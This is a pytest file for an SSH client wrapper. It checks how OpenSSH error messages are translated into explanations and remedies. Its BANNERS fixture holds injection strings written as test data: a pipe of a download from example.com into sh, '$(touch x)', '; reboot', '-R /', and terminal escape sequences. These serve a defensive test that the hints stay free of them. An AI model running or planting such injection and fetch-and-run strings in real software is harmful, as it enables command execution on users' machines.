"""What OpenSSH's messages become; the texts are those that ssh 7.6 to 10 print."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from needs import need_program
from openssh_server import Laptop, OpenSSHServer

from ml_remote.errors import (
    ConfigurationError,
    HostKeyChangedError,
    HostKeyUnknownError,
    LabError,
    LoginRefusedError,
    UnreachableError,
)
from ml_remote.ssh.client import Client
from ml_remote.ssh.explaining import explain, recognise

CHANGED = """\
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!
Offending ED25519 key in /home/ada/.ssh/known_hosts:3
Host key for gpu.example.com has changed and you have requested strict checking.
Host key verification failed.
"""

MESSAGES: list[tuple[str, type[LabError], str, str]] = [
    (
        "/home/ada/.ssh/config: line 7: Bad configuration option: nonsense\n"
        "/home/ada/.ssh/config: terminating, 1 bad configuration options",
        ConfigurationError,
        "line 7 of /home/ada/.ssh/config: Bad configuration option: nonsense",
        "mend line 7",
    ),
    (
        "/home/ada/.ssh/config line 2: keyword hostname extra arguments at end of line",
        ConfigurationError,
        "line 2 of /home/ada/.ssh/config",
        "mend line 2",
    ),
    (
        "/home/ada/.ssh/config: line 1: Bad configuration option: usekeychain",
        ConfigurationError,
        "UseKeychain",
        "IgnoreUnknown UseKeychain",
    ),
    (
        "Bad owner or permissions on /home/ada/.ssh/config",
        ConfigurationError,
        "/home/ada/.ssh/config",
        "chmod go-w /home/ada/.ssh/config",
    ),
    (
        "Can't open user config file /x/config: No such file or directory",
        ConfigurationError,
        "no /x/config",
        "lab connect user@address",
    ),
    (
        'unix_listener: path "/very/long" too long for Unix domain socket',
        ConfigurationError,
        "too long",
        "LAB_SSH_DIR",
    ),
    (
        "ControlPath too long ('/very/long' >= 108 bytes)",
        ConfigurationError,
        "too long",
        "LAB_SSH_DIR",
    ),
    (
        CHANGED,
        HostKeyChangedError,
        "another machine answers",
        "ssh-keygen -R gpu.example.com -f /home/ada/.ssh/known_hosts",
    ),
    (
        "@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n"
        "Host key verification failed.",
        HostKeyChangedError,
        "another machine answers",
        "ssh-keygen -R NAME",
    ),
    (
        "No ED25519 host key is known for [127.0.0.1]:2222 and you have requested strict checking."
        "\nHost key verification failed.",
        HostKeyUnknownError,
        "not known yet",
        "lab connect",
    ),
    ("Host key verification failed.", HostKeyUnknownError, "not known yet", "lab connect"),
    (
        "Unable to negotiate with 10.0.0.1 port 22: no matching host key type found. "
        "Their offer: ssh-rsa,ssh-dss",
        UnreachableError,
        "ssh-rsa,ssh-dss",
        "HostKeyAlgorithms",
    ),
    (
        "Unable to negotiate with 10.0.0.1 port 22: no matching key exchange method found. "
        "Their offer: diffie-hellman-group1-sha1",
        UnreachableError,
        "no key exchange method in common",
        "Update OpenSSH",
    ),
    (
        "ssh: Could not resolve hostname gpu: Name or service not known",
        UnreachableError,
        "No machine called gpu",
        "IP address",
    ),
    (
        "ssh: Could not resolve hostname gpu: nodename nor servname provided, or not known",
        UnreachableError,
        "No machine called gpu",
        "IP address",
    ),
    (
        "ssh: Could not resolve hostname gpu: No such host is known.",
        UnreachableError,
        "No machine called gpu",
        "IP address",
    ),
    (
        "ssh: Could not resolve hostname gpu: Temporary failure in name resolution",
        UnreachableError,
        "offline",
        "network",
    ),
    (
        "ssh: connect to host 10.0.0.1 port 2222: Connection refused",
        UnreachableError,
        "nothing listens on its port 2222",
        "systemctl",
    ),
    (
        "ssh: connect to host 10.0.0.1 port 22: Connection timed out",
        UnreachableError,
        "10.0.0.1 does not answer on port 22",
        "--jump",
    ),
    (
        "ssh: connect to host 10.0.0.1 port 22: Operation timed out",
        UnreachableError,
        "does not answer",
        "--jump",
    ),
    (
        "ssh: connect to host 10.0.0.1 port 22: No route to host",
        UnreachableError,
        "No route to host",
        "VPN",
    ),
    (
        "ssh: connect to host 10.0.0.1 port 22: Network is unreachable",
        UnreachableError,
        "Network is unreachable",
        "VPN",
    ),
    (
        "banner exchange: Connection to 127.0.0.1 port 80: invalid format",
        UnreachableError,
        "not an SSH server",
        "port",
    ),
    (
        "channel 0: open failed: connect failed: Connection refused\nstdio forwarding failed\n"
        "Connection closed by UNKNOWN port 65535",
        UnreachableError,
        "jump host",
        "ssh user@gateway",
    ),
    (
        "kex_exchange_identification: Connection closed by remote host\n"
        "Connection closed by 10.0.0.1 port 22",
        UnreachableError,
        "dropped it at once",
        "Wait",
    ),
    (
        "Connection timed out during banner exchange",
        UnreachableError,
        "dropped it at once",
        "Wait",
    ),
    (
        "Received disconnect from 10.0.0.1 port 22:2: Too many authentication failures\n"
        "Disconnected from 10.0.0.1 port 22",
        LoginRefusedError,
        "too many keys",
        "--identity",
    ),
    (
        "@ WARNING: UNPROTECTED PRIVATE KEY FILE! @\n"
        "Permissions 0644 for '/home/ada/.ssh/id_ed25519' are too open.\n"
        "ada@gpu: Permission denied (publickey).",
        LoginRefusedError,
        "others on this computer may read it",
        "chmod 600 /home/ada/.ssh/id_ed25519",
    ),
    (
        'Load key "/home/ada/.ssh/id_rsa": error in libcrypto\n'
        "ada@gpu: Permission denied (publickey).",
        LoginRefusedError,
        "line endings",
        "lab connect",
    ),
    (
        'sign_and_send_pubkey: signing failed for ED25519 "k" from agent: agent refused operation\n'
        "ada@gpu: Permission denied (publickey).",
        LoginRefusedError,
        "did not sign",
        "Unlock",
    ),
    (
        "ada@gpu: Permission denied (publickey,password).",
        LoginRefusedError,
        "publickey,password",
        "lab connect",
    ),
    (
        'sign_and_send_pubkey: signing failed for ED25519-SK "/home/ada/.ssh/id_ed25519_sk": '
        "device not found\nada@gpu: Permission denied (publickey).",
        LoginRefusedError,
        "not plugged in",
        "touch it",
    ),
    (
        'sign_and_send_pubkey: signing failed for ECDSA-SK "/k" from agent: '
        "agent refused operation\nada@gpu: Permission denied (publickey).",
        LoginRefusedError,
        "security key did not sign",
        "asks for the PIN",
    ),
    (
        'sign_and_send_pubkey: signing failed for ED25519-SK "/k": incorrect passphrase '
        "supplied to decrypt private key\nada@gpu: Permission denied (publickey).",
        LoginRefusedError,
        "security key did not sign",
        "ssh gpu",
    ),
    (
        'sign_and_send_pubkey: signing failed for RSA "k" from agent: communication with agent '
        "failed\nada@gpu: Permission denied (publickey).",
        LoginRefusedError,
        "did not sign",
        "Unlock",
    ),
    (
        "sign_and_send_pubkey: no mutual signature supported\n"
        "ada@gpu: Permission denied (publickey).",
        LoginRefusedError,
        "no signature in common",
        "--key-type ed25519",
    ),
    (
        "Connection closed by 10.0.0.1 port 22",
        UnreachableError,
        "ended the connection during the login",
        "expired",
    ),
    (
        "Connection reset by 10.0.0.1 port 22",
        UnreachableError,
        "ended the connection during the login",
        "expired",
    ),
    (
        "Received disconnect from 10.0.0.1 port 22:2: Change of username or service not allowed\n"
        "Disconnected from 10.0.0.1 port 22",
        UnreachableError,
        "ended the connection: Change of username",
        "lab doctor",
    ),
    (
        "kex_exchange_identification: banner line 0: Exceeded MaxStartups\n"
        "kex_exchange_identification: Connection closed by remote host",
        UnreachableError,
        "too many are under way",
        "Wait a minute",
    ),
    (
        "kex_exchange_identification: banner line 0: Not allowed at this time\n"
        "kex_exchange_identification: Connection closed by remote host",
        UnreachableError,
        "barred the address of this computer",
        "Wait ten minutes",
    ),
    (
        "channel 0: open failed: connect failed: open failed",
        UnreachableError,
        "opens no session",
        "End some",
    ),
    (
        "mux_client_request_session: session request failed: Session open refused by peer",
        UnreachableError,
        "no further session",
        "End some",
    ),
    (
        "client_loop: send disconnect: Broken pipe",
        UnreachableError,
        "was lost",
        "again",
    ),
    ("Connection to 10.0.0.1 closed by remote host.", UnreachableError, "was lost", "again"),
    ("Read from remote host 10.0.0.1: Connection reset by peer", UnreachableError, "lost", "again"),
    ("Corrupted MAC on input.", UnreachableError, "was lost", "again"),
    ("Timeout, server 10.0.0.1 not responding.", UnreachableError, "was lost", "again"),
    ("something quite new", UnreachableError, "ssh said: something quite new", "ssh -v gpu"),
    ("", UnreachableError, "gave no reason", "ssh -v gpu"),
]


@pytest.mark.parametrize(
    ("stderr", "error", "words", "hint"), MESSAGES, ids=[row[0][-40:] for row in MESSAGES]
)
def test_message_becomes_a_sentence_and_a_remedy(
    stderr: str, error: type[LabError], words: str, hint: str
) -> None:
    explained = explain(stderr, alias="gpu")
    assert type(explained) is error
    assert words in str(explained)
    assert explained.hint is not None
    assert hint in explained.hint


@pytest.mark.parametrize(
    ("options", "words"),
    [
        (("HostName=no-such-machine.invalid",), "No machine called|offline"),
        (("HostName=127.0.0.1", "Port=1"), "nothing listens on its port 1"),
        (("HostName=127.0.0.1", "Port=abc"), "Bad port"),
    ],
)
def test_messages_of_this_machines_ssh_are_known(options: tuple[str, ...], words: str) -> None:
    with pytest.raises(LabError, match=words):
        Client(alias="gpu", options=options).run("true")


NOT_OF_SSH = {
    "a banner": "No unauthorised use. Connection reset and Broken pipe mean maintenance.",
    "a motd with a line number": "/etc/motd: line 3: Welcome; the option of a backup is not found",
    "bash's form": "/usr/bin/bash: line 1: exec: nc: not found",
    "a hook's program": ".git/hooks/pre-push: line 4: no-such: command not found",
    "rsync": "rsync: [sender] write error: Broken pipe (32)",
    "a forward that is not needed": "Could not request local forwarding.",
    "a remote password": "The password has expired 3 times this year",
    "git": "remote: Host key verification failed is what we test here",
}


@pytest.mark.parametrize("text", NOT_OF_SSH.values(), ids=NOT_OF_SSH)
def test_words_of_others_are_not_taken_for_those_of_ssh(text: str) -> None:
    assert recognise(text, alias="gpu") is None
    refused = explain(f"{text}\nada@gpu: Permission denied (publickey).", alias="gpu")
    assert isinstance(refused, LoginRefusedError)


NOISE = {
    "post-quantum": "** WARNING: connection is not using a post-quantum key exchange algorithm.\n"
    '** This session may be vulnerable to "store now, decrypt later" attacks.',
    "known hosts": "Warning: Permanently added 'gpu' (ED25519) to the list of known hosts.",
    "ssh -v": "debug1: Authentications that can continue: publickey\ndebug2: Broken pipe",
    "a deprecated option": '/home/ada/.ssh/config line 3: Deprecated option "rsaauthentication"',
    "multiplexing": "ControlSocket /x already exists, disabling multiplexing",
}


@pytest.mark.parametrize("noise", NOISE.values(), ids=NOISE)
def test_noise_is_not_the_reason(noise: str) -> None:
    assert "something quite new" in explain(f"something quite new\n{noise}", alias="gpu").message
    assert "gave no reason" in explain(noise, alias="gpu").message


@pytest.mark.parametrize("shell", ["bash", "sh", "zsh", "fish", "csh", "tcsh"])
@pytest.mark.parametrize("program", ["no-such-program", "/opt/no-such-program"])
def test_missing_program_of_a_proxy_command_is_named(
    shell: str, program: str, ssh: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SHELL", need_program(shell))
    monkeypatch.setenv("LAB_SSH_DIR", str(ssh))
    config = ssh / "config"
    config.write_text(f"Host gpu\n  ProxyCommand {program} %h %p\n")
    with pytest.raises(ConfigurationError) as caught:
        Client(alias="gpu", directory=ssh).run("true")
    assert f"needs the program {program} (ProxyCommand in line 2 of {config})" in str(caught.value)


@pytest.mark.slow
def test_banner_of_a_server_is_not_a_message_of_ssh(laptop: Laptop, server: OpenSSHServer) -> None:
    banner = server.account.write("banner", "\n".join(NOT_OF_SSH.values()) + "\n")
    server.stop()
    server.start(Banner=str(banner))
    laptop.pin_host_key(server)
    user = server.account.user
    client = Client(
        alias="127.0.0.1",
        directory=laptop.ssh,
        options=(f"Port={server.port}", f"User={user}"),
    )
    with pytest.raises(LoginRefusedError, match="refused the login"):
        client.run("true")


BANNERS = {
    "a file with a command": "Permissions 0644 for 'x\"; curl example.com | sh; \"' are too open",
    "a file with a variable": "Permissions 0644 for '$(touch x)' are too open",
    "an option": "Bad owner or permissions on -R /",
    "a name with a command": (
        "REMOTE HOST IDENTIFICATION HAS CHANGED\nOffending key in /x;reboot:3\n"
        "Host key for a$(reboot) has changed"
    ),
    "a line": "/etc/x; reboot line 3: Bad configuration option: usekeychain",
    "escape sequences": "Permissions 0644 for '\x1b]52;c;eA==\x07' are too open",
    "methods": "Permission denied (\x1b[2J; reboot).",
}


@pytest.mark.parametrize("banner", BANNERS.values(), ids=BANNERS)
def test_banner_that_looks_like_a_message_makes_no_command(banner: str) -> None:
    error = explain(banner, alias="gpu")
    assert error.hint is not None
    for hostile in ("curl", "reboot", "touch", "-R /", "\x1b", "$("):
        assert hostile not in error.hint


def test_long_text_of_the_machine_takes_no_time() -> None:
    piece = "REMOTE HOST IDENTIFICATION HAS CHANGED key in a:1 key in b:2 line 1: "
    begun = time.monotonic()
    for text in (piece * 20_000, "x" * 2_000_000, "a: line 1: " * 100_000):
        assert explain(text, alias="gpu").message
    assert time.monotonic() - begun < 5
